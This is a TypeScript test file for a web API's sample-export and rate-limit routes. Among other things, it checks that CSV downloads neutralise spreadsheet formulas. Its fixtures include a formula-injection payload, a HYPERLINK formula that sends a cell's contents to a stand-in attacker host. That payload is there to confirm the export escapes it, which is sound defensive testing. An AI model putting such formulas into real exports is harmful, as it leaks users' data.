import path from "node:path";
import { NextRequest } from "next/server";
import { beforeAll, describe, expect, it } from "vitest";
import type { DB } from "@/db/client";
import { setDb } from "@/lib/db";
import { users } from "@/db/schema";
import { enforceRateLimit, RATE_LIMITS, TooManyRequestsError } from "@/lib/api/rate-limit";
import type { Actor } from "@/lib/auth/actor";
import { buildSearchIndex } from "@/lib/services/results/search-index";
import { createApiToken } from "@/lib/services/tokens/create-api-token";
import { ctxFor, freshDb, insertUser } from "../../helpers/db";
import { runWithSamples, type SampleLine } from "../../helpers/synthetic-run";

/** The real route handlers, called with real requests (no server): searches, downloads and their limits. */
type Handler = (req: NextRequest, ctx: { params: Promise<Record<string, string>> }) => Promise<Response>;
const API_ROOT = path.resolve(import.meta.dirname, "..", "..", "..", "app", "api");
const route = async (p: string) => (await import(/* @vite-ignore */ path.join(API_ROOT, p, "route.ts"))) as Record<string, Handler>;

let db: DB;
let runId = 0;
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+1+2", "-3*4", "@SUM(A1:A9)", "\t=1"];

function tokenFor(actor: Actor): string {
  return createApiToken({ db, ctx: ctxFor(actor), input: { name: "test" } }).token;
}

async function get(routePath: string, url: string, token: string, params: Record<string, string> = {}): Promise<Response> {
  const handler = (await route(routePath)).GET;
  return handler(new NextRequest(new URL(url, "http://localhost:3000"), { headers: { authorization: `Bearer ${token}` } }), { params: Promise.resolve(params) });
}

/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") record.push(field), (field = "");
    else if (c === "\n") record.push(field), records.push(record), (record = []), (field = "");
    else field += c;
  }
  return records;
}

beforeAll(async () => {
  db = freshDb();
  setDb(db);
  const owner = insertUser(db, "member");
  const lines: SampleLine[] = Array.from({ length: 3_500 }, (_, doc) => ({
    docId: doc,
    input: doc < FORMULAS.length ? FORMULAS[doc] : `question ${doc} about the chart`,
    response: doc < FORMULAS.length ? FORMULAS[doc] : `answer ${doc}`,
    correct: doc % 2 === 0,
  }));
  ({ runId } = await runWithSamples(db, { createdById: owner.id, task: "t", lines }).then(async (r) => (await buildSearchIndex(db, r.ingestId), r)));
});

describe("samples download", () => {
  it("CSV: an answer or question that starts a formula (=, +, -, @, tab) arrives as text, not as a formula", async () => {
    const res = await get("v1/runs/[id]/samples/export", `/api/v1/runs/${runId}/samples/export?task=t&format=csv&docId=0`, tokenFor(insertUser(db, "viewer")), { id: String(runId) });
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(await res.text());
    const column = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(3_500);
    for (const [doc, formula] of FORMULAS.entries()) {
      const row = rows.find((r) => r[column("docId")] === String(doc))!;
      expect(row[column("response")]).toBe(`'${formula}`);
      expect(row[column("input")]).toBe(`'${formula}`);
    }
    // No cell anywhere starts a formula; numbers stay numbers.
    expect(rows.flat().filter((cell) => /^[=+\-@\t]/.test(cell))).toEqual([]);
    expect(rows[7][column("docId")]).toBe("7");
  });

  it("streams in batches: other work runs between them, and the database stays writable while the download is open", async () => {
    const res = await get("v1/runs/[id]/samples/export", `/api/v1/runs/${runId}/samples/export?task=t`, tokenFor(insertUser(db, "viewer")), { id: String(runId) });
    expect(res.status).toBe(200);
    let ticks = 0;
    let timer: NodeJS.Immediate;
    const tick = () => {
      ticks++;
      timer = setImmediate(tick);
    };
    timer = setImmediate(tick);
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let text = "";
    const first = await reader.read();
    text += decoder.decode(first.value, { stream: true });
    // The first bytes are here while most of the export is still to come: and a write (another request's comment,
    // a sign-in) on the same connection succeeds meanwhile — a download must not hold the connection.
    expect(text.split("\n").length).toBeLessThan(3_500);
    db.update(users).set({ name: "renamed during the download" }).run();
    for (let step = await reader.read(); !step.done; step = await reader.read()) text += decoder.decode(step.value, { stream: true });
    clearImmediate(timer!);
    expect(text.trim().split("\n")).toHaveLength(3_500);
    // 3,500 samples are four batches: the event loop ran between them (a health check would have been answered).
    expect(ticks).toBeGreaterThanOrEqual(3);
  });

  it("a bad request fails before the download starts, with its own status", async () => {
    const token = tokenFor(insertUser(db, "viewer"));
    expect((await get("v1/runs/[id]/samples/export", `/api/v1/runs/${runId}/samples/export?task=t&format=xlsx`, token, { id: String(runId) })).status).toBe(400);
    expect((await get("v1/runs/[id]/samples/export", `/api/v1/runs/999/samples/export?task=t`, token, { id: "999" })).status).toBe(404);
    expect((await get("v1/runs/[id]/samples/export", `/api/v1/runs/${runId}/samples/export?task=t&q=%21%21`, token, { id: String(runId) })).status).toBe(400);
  });
});

describe("per-user limits on heavy requests", () => {
  it("searches beyond the burst answer 429 with Retry-After and a clear message; browsing and other users go on", async () => {
    const busy = tokenFor(insertUser(db, "viewer"));
    const search = (token: string, q = "chart") => get("v1/runs/[id]/samples", `/api/v1/runs/${runId}/samples?task=t&q=${q}`, token, { id: String(runId) });
    for (let i = 0; i < RATE_LIMITS.search.burst; i++) expect((await search(busy)).status).toBe(200);
    const refused = await search(busy);
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
    const body = (await refused.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe("rate_limited");
    expect(body.error.message).toMatch(/Too many searches.*Try again in \d+ s/);
    // Pages without search text are cheap and not limited; another user has a bucket of their own.
    for (let i = 0; i < 20; i++) expect((await get("v1/runs/[id]/samples", `/api/v1/runs/${runId}/samples?task=t&cursor=${i * 50}`, busy, { id: String(runId) })).status).toBe(200);
    expect((await search(tokenFor(insertUser(db, "viewer")))).status).toBe(200);
  });

  it("downloads and per-sample comparisons are limited too", async () => {
    const token = tokenFor(insertUser(db, "viewer"));
    const download = () => get("v1/runs/[id]/samples/export", `/api/v1/runs/${runId}/samples/export?task=t&docId=3490`, token, { id: String(runId) });
    for (let i = 0; i < RATE_LIMITS.download.burst; i++) expect((await download()).status).toBe(200);
    expect((await download()).status).toBe(429);
    const diff = () => get("v1/compare/samples", `/api/v1/compare/samples?base=${runId}&other=${runId}&task=t`, token);
    const statuses: number[] = [];
    // Each diff takes a while, during which the bucket refills a little: the limit shows within a few more.
    for (let i = 0; i < 3 * RATE_LIMITS.sampleDiff.burst && !statuses.includes(429); i++) statuses.push((await diff()).status);
    expect(statuses.slice(0, RATE_LIMITS.sampleDiff.burst)).toEqual(Array(RATE_LIMITS.sampleDiff.burst).fill(200));
    expect(statuses.at(-1)).toBe(429);
  });

  it("a bucket refills with time", () => {
    const limit = { what: "tests", burst: 2, perSecond: 0.5 };
    enforceRateLimit(limit, 1, 0);
    enforceRateLimit(limit, 1, 0);
    expect(() => enforceRateLimit(limit, 1, 0)).toThrow(TooManyRequestsError);
    try {
      enforceRateLimit(limit, 1, 1_000);
    } catch (error) {
      // Half a request regained after 1 s at 0.5/s: one more second to wait.
      expect((error as TooManyRequestsError).retryAfterSeconds).toBe(1);
    }
    expect(() => enforceRateLimit(limit, 1, 3_000)).not.toThrow();
  });
});
